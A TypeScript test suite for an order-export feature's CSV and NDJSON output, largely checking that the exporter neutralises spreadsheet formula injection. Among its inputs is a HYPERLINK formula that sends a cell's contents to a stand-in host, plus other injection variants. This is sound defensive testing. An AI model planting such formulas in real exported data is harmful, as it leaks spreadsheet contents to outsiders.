import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

import type { ExportOrdersRequest, OrderRow } from '../../../functions/src/contract/api.ts'
import { TimeZone, utc } from '../../../functions/src/contract/timeZone.ts'
import { orderFile, type OrderLine } from '../../../functions/src/query/orders/orderFile.ts'
import type { Stream } from '../../../functions/src/model/stream.ts'
import { orderStream } from '../../../functions/src/streams/orders/stream.ts'
import { ownStream } from '../ownStream.ts'

const order: OrderRow = {
  id: 'firestore:o1',
  source: 'firestore',
  sourceId: 'o1',
  orderNumber: '#1001',
  status: 'processing',
  sourceStatus: 'Posted',
  currency: 'USD',
  total: 15_010,
  subtotal: 14_000,
  tax: 1_000,
  shipping: 30,
  discount: -20,
  customer: { id: 'c1', name: 'Zoë Ångström', email: 'zoe@example.com', phone: '030 1234' },
  itemCount: 2.5,
  createdAt: '2026-11-20T09:30:00.123Z',
  updatedAt: '2026-11-20T23:59:59.999Z',
}

/** A whole file of these lines. */
function fileOf(
  request: ExportOrdersRequest,
  lines: readonly OrderLine[],
  { stream = orderStream, zone = utc }: { stream?: Stream; zone?: TimeZone } = {},
): string {
  const file = orderFile(stream, request, zone)
  return file.header() + lines.map((line) => file.line(line)).join('')
}

const csvHeader = (zone: TimeZone): string => orderFile(orderStream, { format: 'csv' }, zone).header()
const csvLine = (line: OrderRow, zone: TimeZone): string => orderFile(orderStream, { format: 'csv' }, zone).line(line)

/** Reads a file by RFC 4180: one record a line of CRLF, every record as long as the header. */
function read(text: string): Record<string, string>[] {
  const records: string[][] = parse(text, { bom: true, record_delimiter: '\r\n', relax_column_count: false })
  const [names = [], ...rest] = records
  expect(names).toHaveLength(20)
  return rest.map((record) => Object.fromEntries(record.map((cell, i) => [names[i] ?? '', cell])))
}

function nameCell(name: string): string | undefined {
  return read(csvHeader(utc) + csvLine({ ...order, customer: { name } }, utc))[0]?.customerName
}

describe('a line', () => {
  it('has every field of a row, amounts in major units, times in UTC', () => {
    expect(csvHeader(utc) + csvLine(order, utc)).toBe(
      '\uFEFFid,source,sourceId,orderNumber,status,sourceStatus,statusUnknown,currency,total,subtotal,tax,shipping,discount,' +
        'customerId,customerName,customerEmail,customerPhone,itemCount,createdAtUtc,updatedAtUtc\r\n' +
        'firestore:o1,firestore,o1,#1001,processing,Posted,,USD,150.10,140.00,10.00,0.30,-0.20,' +
        'c1,Zoë Ångström,zoe@example.com,030 1234,2.5,2026-11-20 09:30:00,2026-11-20 23:59:59\r\n',
    )
  })

  it('has its times in another zone with the offset that its clocks had then', () => {
    const zone = new TimeZone('Pacific/Auckland')
    const inWinter = { ...order, createdAt: '2026-06-20T09:30:00.123Z' }
    const records: string[][] = parse(csvHeader(zone) + csvLine(inWinter, zone), { bom: true })
    const [names = [], cells = []] = records
    expect(names.slice(-2)).toEqual(['createdAt', 'updatedAt'])
    expect(cells.slice(-2)).toEqual(['2026-06-20T21:30:00.123+12:00', '2026-11-21T12:59:59.999+13:00'])
  })

  it.each([
    ['JPY', '15010'],
    ['KWD', '15.010'],
    ['CLF', '1.5010'],
  ])('has as many decimals as %s', (currency, total) => {
    expect(read(csvHeader(utc) + csvLine({ ...order, currency }, utc))[0]).toMatchObject({ currency, total })
  })

  it('flags a status that means nothing here', () => {
    expect(read(csvHeader(utc) + csvLine({ ...order, statusUnknown: true }, utc))[0]).toMatchObject({
      statusUnknown: 'true',
    })
  })

  it('leaves empty what is not known', () => {
    const [cells] = read(csvHeader(utc) + csvLine({ ...order, customer: {} }, utc))
    expect(cells).toMatchObject({ customerId: '', customerName: '', customerEmail: '', customerPhone: '' })
  })

  it.each([
    ['a comma', 'Müller, Ana'],
    ['quotes', 'Ana "the\tbuyer" Müller'],
    ['line breaks', 'Ana\r\nMüller\nBo\rZ'],
    ['spaces around', '  Ana  '],
    ['other scripts', '日本語 กิ 😀 עברית'],
    ['a line separator', 'a\u2028b\u0085c'],
  ])('keeps %s', (_, name) => {
    expect(nameCell(name)).toBe(name)
  })
})

describe('a formula', () => {
  it.each(['=', '+', '-', '@', '＝', '＋', '－', '＠'])('that begins with %s becomes text', (sign) => {
    expect(nameCell(`${sign}1+2`)?.startsWith(`'${sign}`)).toBe(true)
  })

  it.each([
    ['=HYPERLINK("http://e.example?x="&A1,"Error")', '\'=HYPERLINK("http://e.example?x="&A1,"Error")'],
    ['+49 30 1234', "'+49 30 1234"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['\tAna', "'\tAna"],
    ['  =1', "  '=1"],
    ['\u00A0\u3000\uFEFF\u200B\0=1', "\u00A0\u3000\uFEFF\u200B\0'=1"],
    ['"=1', '"\'=1'],
    ['\'"=1', "'\"'=1"],
    ['Ana;=1', "Ana;'=1"],
    ['Ana";"=1', 'Ana";"\'=1'],
    ['Ana\n=1', "Ana\n'=1"],
    ['Ana\t @SUM(1)', "Ana\t '@SUM(1)"],
  ])('%j becomes %j', (name, cell) => {
    expect(nameCell(name)).toBe(cell)
  })

  it.each(['Ana-Maria', 'a+b@example.com', '1=1', 'Ana =1', 'Ana, -5', '', ' '])('%j is none', (name) => {
    expect(nameCell(name)).toBe(name)
  })

  it('is none in any field that comes from outside', () => {
    const bad = '=1'
    const customer = { id: bad, name: bad, email: bad, phone: bad }
    const [cells = {}] = read(
      csvHeader(utc) +
        csvLine({ ...order, id: bad, sourceId: bad, orderNumber: bad, sourceStatus: bad, customer }, utc),
    )
    expect(Object.values(cells).filter((cell) => cell.startsWith('='))).toEqual([])
    expect(Object.values(cells).filter((cell) => cell === "'=1")).toHaveLength(8)
  })

  it('is not made of the numbers written here', () => {
    expect(read(csvHeader(utc) + csvLine({ ...order, total: -15_010, itemCount: -2 }, utc))[0]).toMatchObject({
      total: '-150.10',
      itemCount: '-2',
    })
  })

  it('is looked for in a time that grows with the text, however many spaces it has', () => {
    // Minutes, if every separator looked at all that follows it.
    const name = `${'\n'.repeat(2_000_000)}x`
    expect(csvLine({ ...order, customer: { name } }, utc).length).toBeGreaterThan(2_000_000)
  })
})

function without(text: string | undefined): string | undefined {
  return text?.replaceAll("'", '')
}

it('whatever the texts, a reader finds them again but for the apostrophes, and no cell to calculate', () => {
  const texts = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc
      .array(fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r', '\n', ';', ',', '"', "'", ' ', 'a', 'é', '1'))
      .map((signs) => signs.join('')),
  )
  fc.assert(
    fc.property(fc.array(fc.tuple(texts, texts)), (given) => {
      const lines = given.map(([name, orderNumber]) => csvLine({ ...order, orderNumber, customer: { name } }, utc))
      const records = read(csvHeader(utc) + lines.join(''))
      expect(records.map((cells) => [without(cells.customerName), without(cells.orderNumber)])).toEqual(
        given.map((pair) => pair.map(without)),
      )
      for (const { customerName = '', orderNumber = '' } of records) {
        for (const part of [customerName, orderNumber].flatMap((cell) => cell.split(/[;\t\r\n]/))) {
          expect(part.trimStart().replace(/^["\s]*/, '')).not.toMatch(/^[=+\-@＝]/)
        }
      }
    }),
    { numRuns: 500 },
  )
})

describe('another delimiter', () => {
  it('is a semicolon with decimal commas, as spreadsheets have it that write 12,50', () => {
    const columns = ['orderNumber', 'total', 'discount', 'itemCount']
    expect(fileOf({ format: 'csv', columns, delimiter: ';' }, [order])).toBe(
      '\uFEFForderNumber;total;discount;itemCount\r\n#1001;150,10;-0,20;2,5\r\n',
    )
    expect(fileOf({ format: 'csv', columns, delimiter: ';', decimal: '.' }, [order])).toContain('#1001;150.10;')
    expect(fileOf({ format: 'csv', columns, delimiter: '\t' }, [order])).toContain('#1001\t150.10\t')
    expect(fileOf({ format: 'csv', columns, decimal: ',' }, [order])).toContain('#1001,"150,10",')
  })

  it.each([';', '\t', ','] as const)(
    '%j: texts come back whole, and no cell is calculated by any delimiter',
    (delimiter) => {
      const signs = fc.constantFrom('=', '+', '-', '@', '\t', '\n', ';', ',', '"', "'", ' ', 'a', 'é')
      fc.assert(
        fc.property(fc.array(signs), (given) => {
          const name = given.join('')
          const file = fileOf({ format: 'csv', columns: ['customerName', 'id'], delimiter }, [
            { ...order, customer: { name } },
          ])
          const [, cells = []]: string[][] = parse(file, { bom: true, delimiter, record_delimiter: '\r\n' })
          expect(without(cells[0])).toBe(without(name))
          const others = [',', ';', '\t'].filter((one) => one !== delimiter).join('')
          for (const part of (cells[0] ?? '').split(new RegExp(`[${others}\r\n]`)))
            expect(part.trimStart().replace(/^["\s]*/, '')).not.toMatch(/^[=+\-@]/)
        }),
      )
    },
  )
})

const extra = {
  note: '=1',
  channel: 'web',
  weight: 2.5,
  boxes: 3,
  tip: -150,
  dueAt: '2026-11-30T09:00:00.000Z',
  gift: true,
}

describe('columns of the shop’s own', () => {
  it('stand behind the others, but for those that are not exported', () => {
    const columns = 'extra.note,extra.channel,extra.weight,extra.boxes,extra.tip,extra.dueAtUtc\r\n'
    const file = fileOf({ format: 'csv' }, [{ ...order, extra }], { stream: ownStream })
    expect(file).toContain(`updatedAtUtc,${columns}`)
    expect(file).toMatch(/,'=1,web,2\.5,3,-1\.50,2026-11-30 09:00:00\r\n$/)
    const [whole] = fileOf({ format: 'ndjson' }, [{ ...order, extra }], { stream: ownStream }).split('\n')
    const { gift: _gift, ...exported } = extra
    expect(JSON.parse(whole ?? '')).toEqual({ ...order, extra: exported })
  })

  it('are in a file that names them, whether they are exported or not', () => {
    const columns = ['extra.gift', 'orderNumber', 'extra.tip']
    expect(fileOf({ format: 'csv', columns }, [{ ...order, extra }], { stream: ownStream })).toBe(
      '\uFEFFextra.gift,orderNumber,extra.tip\r\ntrue,#1001,-1.50\r\n',
    )
    expect(fileOf({ format: 'ndjson', columns }, [{ ...order, extra }], { stream: ownStream })).toBe(
      '{"extra.gift":true,"orderNumber":"#1001","extra.tip":-150}\n',
    )
  })

  it('are refused by their place where there are none', () => {
    expect(() => fileOf({ format: 'csv', columns: ['id', 'extra.tip'] }, [])).toThrow(/^columns\.1: is no column/)
    expect(() => fileOf({ format: 'csv', columns: ['itemSku'] }, [])).toThrow(/^columns\.0: is no column/)
  })
})

it('a line of an item has the columns of its order before its own; an order without items has one', () => {
  const item = { sku: 'T-1', name: '@tea', quantity: 1.5, unitPrice: 250, total: 375 }
  const columns = ['orderNumber', 'total', 'itemSku', 'itemName', 'itemQuantity', 'itemUnitPrice', 'itemTotal']
  const lines = [
    { ...order, item },
    { ...order, item: null },
  ]
  expect(fileOf({ format: 'csv', rows: 'items', columns }, lines)).toBe(
    `\uFEFF${columns.join(',')}\r\n#1001,150.10,T-1,'@tea,1.5,2.50,3.75\r\n#1001,150.10,,,,,\r\n`,
  )
  expect(fileOf({ format: 'csv', rows: 'items' }, lines)).toContain(
    'createdAtUtc,updatedAtUtc,itemSku,itemName,itemQuantity,itemUnitPrice,itemTotal\r\n',
  )
  const [first = ''] = fileOf({ format: 'ndjson', rows: 'items' }, lines).split('\n')
  expect(JSON.parse(first)).toEqual({ ...order, item })
})
